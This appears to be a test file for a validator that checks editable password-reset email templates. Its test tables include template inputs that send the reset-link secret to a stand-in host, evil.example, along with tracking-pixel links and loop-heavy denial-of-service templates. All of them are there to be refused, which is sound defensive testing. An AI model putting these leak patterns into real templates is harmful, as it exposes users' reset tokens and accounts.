import { describe, expect, it } from "vitest";
import { LOCALES } from "@/lib/domain/text/locale";
import { env } from "@/lib/env";
import { LETTER_KINDS, type LetterKind } from "@/lib/vocabulary/letter";
import { LETTER_TEXTS } from "@/messages/letters";
import { draftFaults, exampleValues } from "./draft-faults";
import { frameOf } from "./compose-letter";
import { writeOwnText } from "./own-text";

Object.assign(process.env, {
  DATABASE_URL: "postgres://127.0.0.1:1/none",
  ROSTRUM_SECRET: "-".repeat(32),
  BASE_URL: "https://committees.example.org",
  LETTER_LINK_HOSTS: "www.example.org",
});

const SECRET = "s3cret_".repeat(6) + "S";
const page = () => `${env().BASE_URL}/forgotten-password`;
const link = () => `${env().BASE_URL}/reset-password#${SECRET}`;
const write = (body: string, { values = {} } = {}) =>
  writeOwnText(
    { subject: "Yes", body },
    {
      values: { ...exampleValues("password-reset"), ...values },
      frame: frameOf({ kind: "password-reset", mayBeSiteOnly: false }, "en", "Dana"),
      link: link(),
      page: page(),
      needsLink: true,
    },
  );
const CHOOSE = "[Choose]({{ link }})";
const problems = (body: string, kind: LetterKind = "password-reset", subject = "Yes") =>
  draftFaults(kind, { subject, body }).map(({ line, problem, name }) => `${line} ${problem} ${name}`);

describe("a text of the association's", () => {
  it.each(LETTER_KINDS.flatMap((kind) => LOCALES.map((locale) => [kind, locale] as const)))(
    "may be Rostrum's own: %s, %s",
    (kind, locale) => {
      expect(draftFaults(kind, LETTER_TEXTS[locale].kinds[kind])).toEqual([]);
    },
  );

  it.each([
    CHOOSE,
    `${CHOOSE} or read https://www.example.org/help, or [here](https://www.example.org/a?b=c "Help").`,
    "[Choose][1] or write to {{ help }}\n\n[1]: {{ link }}",
    "{% if help %}[Write](mailto:a@www.example.org){% endif %} [Call](tel:+13125550100) [**Choose**]( {{- link -}} )",
    `{% comment %}See evil.example and {{ link | upcase }}{% endcomment %}${CHOOSE}`,
  ])("may have its own link, and addresses that are allowed: %s", (body) => {
    expect(problems(body)).toEqual([]);
  });

  it.each([
    ["[Choose](https://evil.example/?u={{ link }})", "1 link-apart link"],
    ["[Choose](https://www.example.org/?u={{ link }})", "1 link-apart link"],
    ["[Choose]({{ link }}.evil.example)", "1 link-apart link"],
    ["[Choose]({{ link }}) [x][1]\n\n[1]: https://evil.example/?u={{ link }}", "1 link-apart link"],
    [`${CHOOSE}\n\nhttps://evil.example/?u={{ link }}`, "1 link-apart link"],
    [`${CHOOSE}\n\n{{ link }}`, "1 link-apart link"],
    [`${CHOOSE}\n{{ link | replace: "a", "b" }}`, "1 link-apart link"],
    [`${CHOOSE}\n{% if link %}{% endif %}`, "1 link-apart link"],
    [`${CHOOSE}\n{% for c in link %}{{ c }}{% endfor %}`, "1 link-apart link"],
    [`${CHOOSE}\n![x](https://evil.example/{{ link }})`, "1 link-apart link"],
    [`${CHOOSE}\n\n![x](https://evil.example/pixel.png)`, "3 foreign-link https://evil.example/pixel.png"],
    [`${CHOOSE}\n\n<img src="//evil.example/x">`, "3 foreign-link evil.example/x"],
    [`${CHOOSE}\n\n<https://evil.example>`, "3 foreign-link https://evil.example"],
    [`${CHOOSE}\n\nGo to evil.app.`, "3 foreign-link evil.app"],
    [`${CHOOSE}\n\nGo to evil&#46;app.`, "1 foreign-link evil.app"],
    [`${CHOOSE}\n\n[x](//evil.example)`, "3 foreign-link //evil.example"],
    [`${CHOOSE}\n\n[x](http://www.example.org)`, "3 foreign-link http://www.example.org"],
    [`${CHOOSE}\n\n[x](mailto:a@evil.example)`, "3 foreign-link mailto:a@evil.example"],
    [`${CHOOSE}\n\n[x](https://www.example.org/{{ name }})`, "3 variable-link https://www.example.org/…"],
    [`${CHOOSE}\n\n[x]({{ association }})`, "1 variable-link …"],
    [`${CHOOSE}\n\nhttps://www.example.org/{{ name }}`, "3 variable-link https://www.example.org/…"],
    [`${CHOOSE}\n\n{{ name }}.com`, "1 variable-link ….com"],
    // In a branch that no letter to the one who saves it shows.
    [
      `${CHOOSE}\n{% if year == 2099 %}\n[x](https://evil.example){% endif %}`,
      "3 foreign-link https://evil.example",
    ],
    [`${CHOOSE}\n{{ name | append: " evil.example" }}`, "2 foreign-link evil.example"],
    ["[x][1]\n\n[1]: https://evil.example\n\n" + CHOOSE, "3 foreign-link https://evil.example"],
    ["Choose.", "1 no-link link"],
  ])("is refused with %j: %s", (body, ...expected) => {
    expect(problems(body)).toEqual(expect.arrayContaining(expected));
  });

  it("is refused with an address or its link in the subject", () => {
    expect(problems(CHOOSE, "password-reset", "Go to evil.app")).toEqual(["1 foreign-link evil.app"]);
    expect(problems(CHOOSE, "password-reset", "{{ link }}")).toEqual(["1 link-apart link"]);
  });
});

describe("what such a text makes", () => {
  it("has the secret in its links alone, and what is kept has it nowhere", () => {
    const letter = write(`${CHOOSE}\n\nOr open {{ link }} yourself.`);
    if ("faults" in letter) throw new Error(JSON.stringify(letter.faults));
    expect(letter.html.split(SECRET)).toHaveLength(3);
    expect(letter.html).toContain(`href="${link()}"`);
    expect(letter.text).toContain(`Or open ${link()} yourself.`);
    expect(letter.body).not.toContain(SECRET);
    expect(letter.body.replaceAll("\\", "")).toContain(page());
  });

  it.each([
    ["[Choose](https://evil.example/?u={{ link }})", "link-apart"],
    ["[Choose](https://www.example.org/?u={{ link }})", "link-apart"],
    [`${CHOOSE} https://www.example.org/?u={{ link }}`, "link-apart"],
    [`${CHOOSE} evil.example/?u={{ link }}`, "link-apart"],
    [`${CHOOSE} {{ link | append: ".evil.example" }}`, "link-apart"],
    [`${CHOOSE} [x]({{ name }})`, "foreign-link"],
    [`${CHOOSE} {% if name == "Eve" %}evil.app{% endif %}`, "foreign-link"],
    ["Choose.", "no-link"],
    ["{{ nobody }}", "unreadable"],
  ])("is not sent where it breaks the rule, however it was saved: %s", (body, problem) => {
    const letter = write(body, { values: { name: "Eve" } });
    expect(letter).toMatchObject({ faults: [{ problem }] });
    expect(JSON.stringify(letter)).not.toContain(SECRET);
  });

  it("never has a changed secret: a filter changes what stands for it", () => {
    const letter = write(`${CHOOSE} {{ link | upcase | replace: "/", " " | replace: ".", "-" }}`);
    expect(
      JSON.stringify(letter)
        .toLowerCase()
        .replaceAll("_", "")
        .match(/s3cret/g)?.length ?? 0,
    ).toBeLessThanOrEqual(12);
    expect(JSON.stringify(letter)).not.toContain(SECRET.toUpperCase());
  });

  it("may have the addresses that are in its values, as words", () => {
    const values = { qualifications: "See www.candidate.example/me, please. Or evil.example" };
    expect(write(`${CHOOSE}\n\n> {{ qualifications }}`, { values })).toHaveProperty("html");
    expect(write(`${CHOOSE}\n\nhttps://evil.example/?{{ qualifications }}`, { values })).toHaveProperty(
      "faults",
    );
  });
});

describe("a text that runs on", () => {
  const loops = (times: number, inside = "x") =>
    "{% for a in (1..9000) %}".repeat(times) + inside + "{% endfor %}".repeat(times);
  it.each([
    loops(3),
    loops(2, ""),
    "{{ (1..9000000) | size }}",
    "{% for a in (1..1000) %}{{ name }}{% endfor %}".repeat(400),
    `{{ name${" | replace: 'a', 'aa'".repeat(900)} }}`,
    `{% if ${"name and ".repeat(2_200)} name %}{% endif %}`,
    "{% if name %}".repeat(700) + "{% endif %}".repeat(700),
    "{% for a in (1..5000) %}[a]({% endfor %}",
    ...[
      "[",
      "*",
      "**a",
      "_a",
      "`",
      "[a](",
      "![",
      "[[]",
      "[]()",
      " - a\n",
      "[a][",
      "a\n=\n",
      "<a",
      "> ",
      "- a\n  ",
      "{{",
      "{%",
    ].map((part) => part.repeat(20_000 / part.length)),
  ])("holds up the process for a moment only, when it is checked and when it is sent: %.40s", (body) => {
    for (const work of [() => draftFaults("password-changed", { subject: "Yes", body }), () => write(body)]) {
      const begin = performance.now();
      work();
      // Two attempts of 50 ms for each of two steps; generous for a busy machine.
      expect(performance.now() - begin).toBeLessThan(600);
    }
  });

  it("reports a text that is too long to write", () => {
    expect(problems(loops(3))).toEqual(["1 too-much "]);
    expect(write(loops(3))).toEqual({ faults: [{ part: "body", problem: "too-much", name: "" }] });
    expect(
      write("{% for a in (1..100) %}{% for b in (1..100) %}word {{ a }} {% endfor %}{% endfor %}"),
    ).toMatchObject({
      faults: [{ problem: "too-much" }],
    });
  });
});
